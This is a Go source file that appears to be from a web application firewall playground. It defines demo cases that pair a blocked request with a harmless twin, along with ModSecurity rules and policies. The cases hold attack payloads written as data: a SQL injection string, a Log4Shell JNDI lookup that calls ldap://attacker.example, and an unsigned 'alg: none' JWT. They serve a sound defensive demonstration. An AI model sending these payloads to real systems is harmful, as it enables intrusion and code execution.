package playground

// Example is a text to start from: a request that is refused, its harmless
// twin, or rules with a mistake.
type Example struct {
	Name string `json:"name"`
	// Group is the heading that it stands below.
	Group string `json:"group"`
	Case  Case   `json:"case"`
}

// ownRule is a rule of somebody's own, as documentation would show it: it
// scores, as those of CRS do.
const ownRule = `# A rule of our own: orders name their customer by a number.
# It adds to the score of the Core Rule Set, which runs as well.
SecRule ARGS:json.customer "!@rx ^[0-9]{1,9}$" \
    "id:1001,\
    phase:2,\
    pass,\
    log,\
    t:none,t:trim,\
    msg:'The customer is no number',\
    severity:CRITICAL,\
    setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

// strictRule refuses by itself.
const strictRule = `# This rule refuses by itself, with its own status. CRS is off in the policy.
SecRule ARGS:customer "!@rx ^[0-9]{1,9}$" \
    "id:1001,phase:2,deny,status:400,log,t:none,t:trim,\
    msg:'The customer is no number'"
`

// alonePolicy runs the rules of the page and ours, without CRS.
const alonePolicy = `mode: block
crs:
  enabled: false      # the rules above alone
`

// withMistakes is what tabard check is for: an action that does not exist, a
// pattern without its bracket, and a network that is none.
const withMistakes = `# Three mistakes: the list below the texts says where.
SecRule ARGS:customer "!@rx ^[0-9]{1,9}$" \
    "id:1001,phase:2,deny,stats:400,log,t:none,msg:'customer is no number'"

SecRule REQUEST_HEADERS:X-Tenant "@rx ^[a-z{3}$" \
    "id:1002,phase:1,deny,status:400,log,t:none,msg:'no such tenant'"

SecRule REMOTE_ADDR "@ipMatch 10.0.0.0/33" \
    "id:1003,phase:1,pass,nolog,t:none,ctl:ruleEngine=Off"
`

// jwtPolicy looks at tokens.
const jwtPolicy = `mode: block
profile: api
jwt:
  mode: required      # or detect: look at tokens that are there
  algorithms: [RS256, ES256]
`

const jsonHead = "POST /v1/orders HTTP/1.1\nHost: shop.example\nUser-Agent: shop-app/4.2\nAccept: application/json\nContent-Type: application/json\n\n"

const getHead = " HTTP/1.1\nHost: shop.example\nUser-Agent: shop-app/4.2\nAccept: application/json\n"

// Examples are all of them, in the order of the menu; a page starts with the
// first.
func Examples() []Example {
	return []Example{
		example("SQL injection in JSON", "is blocked", ownRule, DefaultPolicy, jsonHead+`{"customer": "7' or 1=1--", "note": "by Friday"}`),
		example("SQL injection in JSON", "its harmless twin", ownRule, DefaultPolicy, jsonHead+`{"customer": "7", "note": "1 or 2 weeks, that's fine"}`),
		example("Log4Shell in a header", "is blocked", "", DefaultPolicy, "GET /v1/orders"+getHead+"X-Trace: ${${lower:j}ndi:ldap://attacker.example/a}\n"),
		example("Log4Shell in a header", "its harmless twin", "", DefaultPolicy, "GET /v1/orders"+getHead+"X-Trace: ${user} asked for ldap\n"),
		example("A token that says alg: none", "is blocked", "", jwtPolicy, "GET /v1/orders"+getHead+"Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiI3IiwiZXhwIjo0MTAyNDQ0ODAwfQ.\n"),
		example("A token that says alg: none", "its harmless twin", "", jwtPolicy, "GET /v1/orders"+getHead+"Authorization: Bearer eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3IiwiZXhwIjo0MTAyNDQ0ODAwfQ.SSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSA\n"),
		example("A rule that stands alone", "blocks", strictRule, alonePolicy, "GET /v1/orders?customer=seven"+getHead),
		example("A rule that stands alone", "its harmless twin", strictRule, alonePolicy, "GET /v1/orders?customer=7"+getHead),
		example("Rules with mistakes", "what check says", withMistakes, DefaultPolicy, "GET /v1/orders?customer=seven"+getHead),
	}
}

func example(group, name, rules, policy, request string) Example {
	return Example{Name: name, Group: group, Case: Case{Version: FileVersion, Rules: rules, Policy: policy, Request: request}}
}
